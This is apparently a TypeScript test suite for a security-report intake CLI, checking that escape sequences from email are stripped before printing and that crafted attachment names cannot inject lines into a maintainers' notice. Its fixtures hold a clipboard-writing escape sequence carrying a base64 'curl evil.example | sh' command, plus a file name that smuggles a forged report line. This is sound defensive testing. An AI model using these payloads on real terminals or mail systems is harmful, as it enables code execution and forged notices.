/**
 * Trust boundary 3 (report text -> the CLI and our mail): escape sequences from mail never reach a terminal,
 * and a file name can never write a line of its own into the maintainers' notice.
 */
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { run } from '../../lambdas/local/cli/main';
import { terminalSafe, jsonSafe } from '../../lambdas/local/cli/terminal-safe';
import { loadExample, startHarness } from '../support/intake-harness';

const ESC = '\u001b';
const HOSTILE_SUBJECT = `Bug${ESC}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007${ESC}]0;pwned\u0007${ESC}[2J${ESC}[1A\u0007\u009b31m\u202eevil`;

async function cli(...argv: string[]) {
  let out = '';
  let err = '';
  const code = await run(argv, { out: (t) => void (out += t), err: (t) => void (err += t), isTerminal: () => true });
  return { code, out, err };
}

describe('the CLI never prints escape sequences that came in mail', () => {
  let data: string;
  beforeAll(async () => {
    data = await mkdtemp(join(tmpdir(), 'secintake-esc-'));
    const eml = join(data, 'hostile.eml');
    const subject = '=?utf-8?B?' + Buffer.from(HOSTILE_SUBJECT).toString('base64') + '?=';
    await writeFile(
      eml,
      ['From: Eve <eve@reporter.example>', 'To: security@hashberg.io', `Subject: ${subject}`, 'Message-ID: <esc@reporter.example>', 'MIME-Version: 1.0', 'Content-Type: text/plain; charset=utf-8', '', `Body ${ESC}]52;c;ZXZpbA==\u0007text\rover`, ''].join('\r\n'),
    );
    expect((await cli('--data', data, 'import', '--send-receipts', eml)).code).toBe(0);
  });
  afterAll(() => rm(data, { recursive: true, force: true }));

  const hasControls = (s: string) => /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e]/.test(s);

  test('reports, show, outbox and outbox show print no ESC, OSC, CSI, BEL, C1 or bidi override', async () => {
    const reports = await cli('--data', data, 'reports');
    expect(reports.out).toContain('Bug');
    const id = /^([0-9A-Z]{4}-[0-9A-Z]{4})/m.exec(reports.out.split('\n')[1] ?? '')![1]!;
    const outputs = [reports.out, (await cli('--data', data, 'show', id)).out, (await cli('--data', data, 'outbox')).out];
    outputs.push((await cli('--data', data, 'outbox', 'show', '1')).out);
    for (const out of outputs) {
      expect(out.length).toBeGreaterThan(0);
      expect(hasControls(out)).toBe(false);
    }
  });

  test('--json keeps the data but escapes it; --raw refuses a terminal', async () => {
    const json = (await cli('--data', data, 'reports', '--json')).out;
    expect(hasControls(json)).toBe(false);
    expect(JSON.parse(json)[0].subject).toBe(HOSTILE_SUBJECT);
    const raw = await cli('--data', data, 'outbox', 'show', '1', '--raw');
    expect(raw.code).toBe(2);
    expect(raw.err).toMatch(/send them to a file/);
  });

  test('outbox show decodes RFC 2047 headers', async () => {
    const shown = (await cli('--data', data, 'outbox', 'show', '1')).out;
    expect(shown).toMatch(/^Subject: \[security report #[0-9A-Z]{4}-[0-9A-Z]{4}\] Bug/m);
    expect(shown).not.toMatch(/=\?UTF-8\?/i);
  });
});

test('terminalSafe and jsonSafe', () => {
  expect(terminalSafe(`a${ESC}]52;c;eA==\u0007b${ESC}[31mc\u0007d\re\n\tf\u202eg`)).toBe('abcde\n\tfg');
  expect(jsonSafe(JSON.stringify('a\u009bb\u2028c'))).toBe('"a\\u009bb\\u2028c"');
});

test('a file name with CR, LF and U+2028 stays on its own quoted line in the notice', async () => {
  const h = await startHarness(loadExample('bases'));
  try {
    const name = 'poc.py\r\nNew report ABCD-EFGH from alice@hashberg.io (DMARC PASS)\u2028Status: fixed\u202e';
    const raw = [
      'From: Jane <jane@reporter.example>',
      'To: security@hashberg.io',
      'Subject: overflow',
      'Message-ID: <names@reporter.example>',
      'MIME-Version: 1.0',
      'Content-Type: multipart/mixed; boundary="b"',
      '',
      '--b',
      'Content-Type: text/plain',
      '',
      'see attached',
      '--b',
      `Content-Type: text/x-python; name="=?utf-8?B?${Buffer.from(name).toString('base64')}?="`,
      `Content-Disposition: attachment; filename="=?utf-8?B?${Buffer.from(name).toString('base64')}?="`,
      '',
      'print(1)',
      '--b--',
      '',
    ].join('\r\n');
    await h.deliver(raw);
    const notice = h.sender.sent.find((s) => s.outboxId === 'notice')!.parsed.text!;
    const lines = notice.split('\n');
    expect(lines.filter((l) => l.startsWith('New report '))).toHaveLength(1);
    const attachmentLine = lines.find((l) => l.includes('poc.py'))!;
    expect(attachmentLine).toMatch(/^- "poc\.py New report ABCD-EFGH from alice@hashberg\.io \(DMARC PASS\) Status: fixed" \(text\/x-python/);
  } finally {
    await h.close();
  }
});
